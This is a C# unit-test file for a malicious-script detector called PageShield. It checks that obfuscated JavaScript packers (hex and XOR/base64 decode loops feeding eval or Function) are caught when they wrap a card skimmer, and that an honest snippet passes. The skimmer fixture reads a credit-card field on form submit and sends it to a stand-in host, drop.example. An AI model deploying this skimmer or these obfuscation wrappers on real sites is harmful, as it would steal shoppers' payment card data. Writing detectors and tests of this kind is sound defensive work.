@@ -1,0 +1,97 @@
+using Jint;
+using System.Text;
+using PageShield.Detection;
+using PageShield.Detection.Decoding;
+using PageShield.Detection.Flows;
+using PageShield.Inventory;
+using PageShield.JavaScript;
+
+namespace PageShield.Tests.Detection;
+
+/// <summary>String tables and loops that build code, in the forms that obfuscators, minifiers over them, and packers leave.</summary>
+public sealed class DecoderTests
+{
+    private const string Skimmer = "document.forms[0].onsubmit=function(){new Image().src='https://drop.example/x.gif?c='+document.querySelector('#cc-number').value};";
+    private const string Honest = "document.querySelector('#copy').onclick=function(){navigator.clipboard.writeText(location.href)};";
+
+    private static readonly ScriptJudge _judge = new();
+
+    public static TheoryData<string> Loops =>
+    [
+        "(function(){var d='HEX',t='',i;for(i=0;i<d.length;i+=2)t+='%'+d.substr(i,2);Function(decodeURIComponent(t))();})();",
+        "(function(){var d='HEX',t='';for(var i=0;i<d.length;i+=2){t+='%'+d.substr(i,2);}eval(unescape(t));})();",
+        "(()=>{let d='HEX',t='';for(let i=0;i<d.length;i+=2)t+='%'+d.substr(i,2);eval(unescape(t))})();",
+        "!function(d){for(var t='',i=0;i<d.length;i+=2)t+='%'+d.substr(i,2);new Function(unescape(t))()}('HEX');",
+        "void function(){var d='HEX',t='',i=0;while(i<d.length){t+='%'+d.substr(i,2);i+=2}Function(unescape(t))()}();",
+        "(function(){var d='HEX',t='';for(var i=0;i<d.length;i+=2)t+='%'+d.substr(i,2);Function(unescape(t))();}).call(this);",
+        "(function(){function go(d){for(var t='',i=0;i<d.length;i+=2)t+='%'+d.substr(i,2);eval(unescape(t))}go('HEX')})();",
+    ];
+
+    [Theory]
+    [MemberData(nameof(Loops))]
+    public void A_loop_that_builds_code_in_a_function_called_at_once_is_run(string packer)
+    {
+        Assert.Equal(VerdictKind.Malicious, VerdictOf(packer.Replace("HEX", Hex(Skimmer), StringComparison.Ordinal)));
+        Assert.NotEqual(VerdictKind.Malicious, VerdictOf(packer.Replace("HEX", Hex(Honest), StringComparison.Ordinal)));
+    }
+
+    [Fact]
+    public void A_loop_over_a_long_text_is_run_to_its_end()
+    {
+        var code = "/*" + new string('x', 70_000) + "*/" + Skimmer;
+        var data = Convert.ToBase64String([.. code.Select(c => (byte)(c ^ 7))]);
+
+        var verdict = VerdictOf($"(function(){{var d=atob('{data}'),t='';for(var i=0;i<d.length;i++){{t+=String.fromCharCode(d.charCodeAt(i)^7);}}eval(t);}})();");
+
+        Assert.Equal(VerdictKind.Malicious, verdict);
+    }
+
+    [Theory]
+    [InlineData(DecoderFixtures.SkimmerInFoldedTable)]
+    [InlineData(DecoderFixtures.SkimmerBehindWrappers)]
+    [InlineData(DecoderFixtures.SkimmerInTwoTables)]
+    public void A_skimmer_in_a_string_table_is_condemned(string source) => Assert.Equal(VerdictKind.Malicious, VerdictOf(source));
+
+    [Theory]
+    [InlineData(DecoderFixtures.TagInFoldedTable)]
+    [InlineData(DecoderFixtures.TagBehindWrappers)]
+    [InlineData(DecoderFixtures.TagInTwoTables)]
+    public void An_honest_tag_in_a_string_table_is_not_condemned(string source) => Assert.NotEqual(VerdictKind.Malicious, VerdictOf(source));
+
+    [Theory]
+    [InlineData(DecoderFixtures.SkimmerInFoldedTable, "https://drop.example/x.gif?c=")]
+    [InlineData(DecoderFixtures.SkimmerBehindWrappers, "https://drop.example/x.gif?c=")]
+    [InlineData(DecoderFixtures.SkimmerInTwoTables, "https://drop.example/x.gif?c=")]
+    [InlineData(DecoderFixtures.TagInFoldedTable, "https://tags.example/t.js")]
+    [InlineData(DecoderFixtures.TagInTwoTables, "https://tags.example/t.js")]
+    [InlineData(DecoderFixtures.TagBehindWrappers, "https://tags.example/t.js")]
+    public void String_tables_are_read_without_the_interpreter(string source, string text)
+    {
+        var work = new DecodingWork();
+        work.TryTake(int.MaxValue);
+        var program = ParsedScript.Parse(source).Program;
+        Assert.NotNull(program);
+
+        var flow = FlowAnalysis.Run(program, source, work, TestContext.Current.CancellationToken);
+
+        Assert.Contains(flow.BuiltTexts, built => built.Text == text);
+    }
+
+    [Fact]
+    public void Time_and_chance_are_the_same_in_every_run()
+    {
+        const string Source = "[new Date().getTime(), Date.now(), String(new Date()), new Date(2020, 5, 1).getTime(), new Date('2020-06-01T10:00').getTime(), Math.random(), Math.random()].join('|')";
+
+        var first = Sandbox.Create(Sandbox.DecoderStatements, new DecodingWork(), TestContext.Current.CancellationToken).Evaluate(Source).AsString();
+        var second = Sandbox.Create(Sandbox.DecoderStatements, new DecodingWork(), TestContext.Current.CancellationToken).Evaluate(Source).AsString();
+
+        Assert.Equal(first, second);
+        Assert.StartsWith("1715774400000|1715774400000|Wed May 15 2024 12:00:00 GMT+0000", first, StringComparison.Ordinal);
+        Assert.Contains("|1590969600000|1591005600000|", first, StringComparison.Ordinal);
+        Assert.NotEqual(first.Split('|')[5], first.Split('|')[6]);
+    }
+
+    private static VerdictKind VerdictOf(string source) => _judge.Judge(new ScriptToJudge { Source = source }).Verdict;
+
+    private static string Hex(string text) => Convert.ToHexStringLower(Encoding.ASCII.GetBytes(text));
+}
